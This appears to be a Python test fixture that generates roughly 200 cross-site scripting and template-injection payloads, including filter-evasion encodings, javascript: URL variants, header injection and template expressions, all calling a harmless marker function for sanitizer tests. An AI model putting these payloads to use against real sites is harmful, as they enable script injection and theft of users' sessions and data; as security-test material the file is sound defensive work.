"""About 200 ways to bring a script into a page, as an attacker would write them.

``mbx`` is what would run: what the tests find with it in a place that runs is a hole.
``MBXMADE`` appears only where something evaluated a template.
"""

from __future__ import annotations

from itertools import product

MARK = "mbx"
EVALUATED = "MBXMADE"

_SCRIPTS = (
    "<script>mbx()</script>",
    "<SCRIPT>mbx()</SCRIPT>",
    "<ScRiPt >mbx()</sCrIpT >",
    "<script\n>mbx()</script\n>",
    "<script/mbx>mbx()</script>",
    "<script src=//mbx.example></script>",
    "<script src='data:text/javascript,mbx()'></script>",
    "<script type=module>mbx()</script>",
    "<script>mbx()",
    "<<script>mbx()//<</script>",
    "<scr<script>ipt>mbx()</scr</script>ipt>",
    "<scr\tipt>mbx()</script>",
    "<!--<script>-->mbx()</script>",
    "<![CDATA[<script>mbx()</script>]]>",
    "<svg><script>mbx()</script></svg>",
    "<svg><script href=data:,mbx() /></svg>",
    "<math><script>mbx()</script></math>",
    "<iframe src=javascript:mbx()></iframe>",
    "<iframe srcdoc='<script>mbx()</script>'></iframe>",
    "<object data=javascript:mbx()></object>",
    "<embed src=javascript:mbx()>",
    "<base href=javascript:mbx()//>",
    "<meta http-equiv=refresh content='0;url=javascript:mbx()'>",
    "<link rel=stylesheet href=//mbx.example/a.css>",
    "<link rel=import href=data:text/html,mbx>",
    "<style>@import '//mbx.example/a.css';</style>",
    "<form action=javascript:mbx()><button>mbx",
    "<button formaction=javascript:mbx()>mbx</button>",
    "<isindex action=javascript:mbx() type=image>",
    "<template shadowrootmode=open><script>mbx()</script></template>",
)

_EVENTS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("a href=#", "onmouseover"),
    ("math", "onclick"),
)
_QUOTINGS = (
    "<{tag} {event}=mbx()>",
    '<{tag} {event}="mbx()">',
    "<{tag} {event}='mbx()'>",
    "<{tag} {event}=`mbx()`>",
    "<{tag}/{event}=mbx()//>",
    "<{tag}\n{event}\n=\n'mbx()'\n>",
    "<{tag}\f{event}=mbx() ",
)

_ENDS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</ScRiPt\t>",
    "</option></select>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</p></li></main>",
    '\\"}]}</script>',
)
_BEHIND = ("<script>mbx()</script>", "<img src=x onerror=mbx()>")

_ATTRIBUTES = (
    '" onfocus="mbx()" autofocus x="',
    "' onfocus='mbx()' autofocus x='",
    "` onfocus=`mbx()` autofocus x=`",
    " onfocus=mbx() autofocus ",
    '"onfocus="mbx()"autofocus',
    '" style="background:url(javascript:mbx())',
    '" formaction="javascript:mbx()" type="submit',
    '" data-action="click->mbx#mbx" data-controller="mbx',
    '\\" onfocus=\\"mbx()\\" autofocus=\\"',
    "&quot; onfocus=&quot;mbx()&quot;",
)

ADDRESSES = (
    "javascript:mbx()",
    "JAVASCRIPT:mbx()",
    "JaVaScRiPt:mbx()",
    " javascript:mbx()",
    "\tjavascript:mbx()",
    "\njavascript:mbx()",
    "\x01javascript:mbx()",
    "\x1fjavascript:mbx()",
    "java\tscript:mbx()",
    "java\nscript:mbx()",
    "java\r\nscript:mbx()",
    "javascript\t:mbx()",
    "javascript:\nmbx()",
    "javascript://example.se/%0Ambx()",
    "javascript:https://example.se/mbx()",
    "javascript://@example.se/%0Ambx()",
    "javascript&colon;mbx()",
    "javascript&#58;mbx()",
    "&#106;avascript:mbx()",
    "&#x6A;avascript:mbx()",
    "&#0000106avascript:mbx()",
    "javascript%3Ambx()",
    "java%0ascript:mbx()",
    "\\javascript:mbx()",
    "\\u006aavascript:mbx()",
    "\u00a0javascript:mbx()",
    "\ufeffjavascript:mbx()",
    "\u200bjavascript:mbx()",
    "\u202ejavascript:mbx()",
    "java\u0000script:mbx()".replace("\0", "\ufffd"),
    "javascript\uff1ambx()",
    "java\u017fcript:mbx()",
    "view-source:javascript:mbx()",
    "feed:javascript:mbx()",
    "jar:javascript:mbx()!/",
    "vbscript:mbx()",
    "VbScRiPt:mbx()",
    "vb\tscript:mbx()",
    "livescript:mbx()",
    "data:text/html,<script>mbx()</script>",
    "DATA:text/html,<script>mbx()</script>",
    " data:text/html;base64,bWJ4",
    "data:image/svg+xml,<svg onload=mbx()>",
    "data:application/xhtml+xml,mbx",
    "da\tta:text/html,mbx",
    "blob:https://example.se/mbx",
    "filesystem:https://example.se/mbx",
    "file:///mbx",
    "//[mbx",
    "https://[mbx",
    'https://example.se/"onfocus="mbx()',
    "https://example.se/'><script>mbx()</script>",
    "https://example.se/<script>mbx()</script>",
    "https://user:mbx@example.se/",
)

_TEMPLATES = (
    "{{ 'mbxmade'|upper }}",
    '{{"mbxmade"|upper}}',
    "{{ 'mbxmade'.upper() }}",
    "{% filter upper %}mbxmade{% endfilter %}",
    "{% include 'mbx' %}",
    "{% load mbx %}",
    "{{ request.user.password }}mbx",
    "{% debug %}mbx",
    "{{ mbx|safe }}",
    "{% autoescape off %}<script>mbx()</script>{% endautoescape %}",
    "{#mbx#}",
    "${'mbxmade'.toUpperCase()}",
    "#{'mbxmade'.toUpperCase()}",
    "<%= 'mbxmade'.toUpperCase() %>",
    "{{constructor.constructor('mbx()')()}}",
    "%(mbx)s",
    "%s%d%n mbx",
    "{mbx} {0.__class__} {mbx.__init__}",
)

_ODDITIES = (
    "\uff1cscript\uff1embx()\uff1c/script\uff1e",
    "<\u017fcript>mbx()</\u017fcript>",
    "\u2028<script>mbx()</script>",
    "\ufeff<script>mbx()</script>",
    "\u202e>tpircs<mbx()",
    "&lt;script&gt;mbx()&lt;/script&gt;",
    "&#60;script&#62;mbx()&#60;/script&#62;",
    "&amp;lt;script&amp;gt;mbx()",
    "%3Cscript%3Embx()%3C/script%3E",
    "\\u003cscript\\u003embx()\\u003c/script\\u003e",
    "\\x3cscript\\x3embx()\\x3c/script\\x3e",
    "+ADw-script+AD4-mbx()+ADw-/script+AD4-",
    "\u00bcscript\u00bembx()\u00bc/script\u00be",
    "<a href=&#106;avascript:mbx()>mbx</a>",
    "<a href='java\nscript:mbx()'>mbx</a>",
    "<svg><a xlink:href='javascript:mbx()'><text>mbx",
    "<svg><animate attributeName=href values=javascript:mbx() />",
    "<svg><set attributeName=onload to=mbx() />",
    "<math href=javascript:mbx()>mbx",
    "<p style=\"width:expression(mbx())\">",
    '"}]}</script><script>mbx()</script>',
    '","mbx":"<script>mbx()</script>',
    '\\",\\"__proto__\\":{\\"mbx\\":1}',
    "'-mbx()-'",
    "\\'-mbx()//",
    "*/mbx()/*",
    "\r\nSet-Cookie: mbx=1\r\n\r\n<script>mbx()</script>",
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *(
                form.format(tag=tag, event=event)
                for form, (tag, event) in product(_QUOTINGS, _EVENTS)
            ),
            *(end + behind for end, behind in product(_ENDS, _BEHIND)),
            *_ATTRIBUTES,
            *ADDRESSES,
            *_TEMPLATES,
            *_ODDITIES,
        )
    )
)


def packed(turn: int = 0) -> str:
    """Return all payloads in one text, another one first for each turn."""
    first = turn * 13 % len(PAYLOADS)
    return "\n".join((*PAYLOADS[first:], *PAYLOADS[:first]))
